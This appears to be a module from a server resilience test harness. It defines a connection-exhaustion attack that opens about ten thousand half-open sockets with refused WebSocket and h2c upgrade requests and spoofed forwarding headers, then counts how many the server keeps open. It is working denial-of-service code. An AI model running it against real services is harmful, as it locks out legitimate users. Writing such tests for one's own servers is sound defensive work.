import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

const total = 10_050;
const heads = [
  'GET /x HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n',
  'GET /ws HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n',
  'GET /ws HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n',
];

/**
 * Requests upgrades on more connections than the program accepts, and keeps each half open. When refusals did not
 * close them, other clients were locked out until the attacker closed them.
 */
export const attack = {
  name: 'refused upgrades',
  async run({ base, signal }) {
    const { hostname, port, host } = new URL(base);
    const open = new Set();
    const answers = new Map();
    for (let count = 0; count < total && !signal.aborted; count++) {
      const socket = connect({ host: hostname, port: Number(port), allowHalfOpen: true });
      open.add(socket);
      socket.once('close', () => open.delete(socket));
      socket.on('error', () => {});
      socket.once('data', (chunk) => {
        const status = chunk.toString('latin1', 9, 12);
        answers.set(status, (answers.get(status) ?? 0) + 1);
      });
      socket.write(`${heads[count % 3]}Host: ${host}\r\nX-Forwarded-For: 10.66.0.1\r\n\r\n`);
      // The maximum that one process can begin at once.
      if (count % 500 === 499) await pause(20);
    }
    await pause(10_000, null, { signal }).catch(() => {});
    // If the connection was closed by the other side, the next byte on it is answered with a reset.
    for (const socket of open) socket.write('x');
    await pause(1000);
    const statuses = [...answers].map(([status, count]) => `${count} × ${status}`).join(', ');
    const figures = `${statuses}; ${open.size} still kept open by the program`;
    for (const socket of open) socket.destroy();
    return figures;
  },
};
